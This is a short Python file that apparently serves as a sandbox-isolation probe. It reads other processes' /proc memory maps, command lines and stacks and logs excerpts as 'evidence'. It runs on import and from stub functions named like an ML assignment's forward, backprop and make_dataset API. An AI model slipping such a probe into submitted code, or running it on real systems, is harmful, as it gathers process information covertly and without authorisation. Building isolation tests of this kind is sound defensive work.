"""Reads other processes' memory maps and command lines."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE proc-maps:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-proc-maps", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    pids = [os.getppid(), 1, *range(max(2, os.getpid() - 60), os.getpid())]
    for pid in pids:
        try:
            for part in ("maps", "cmdline", "smaps", "auxv", "stack"):
                with open(f"/proc/{pid}/{part}", "rb") as file:
                    evidence(f"{pid} {part}: {file.read(200)!r}")
        except (OSError, ValueError):
            continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
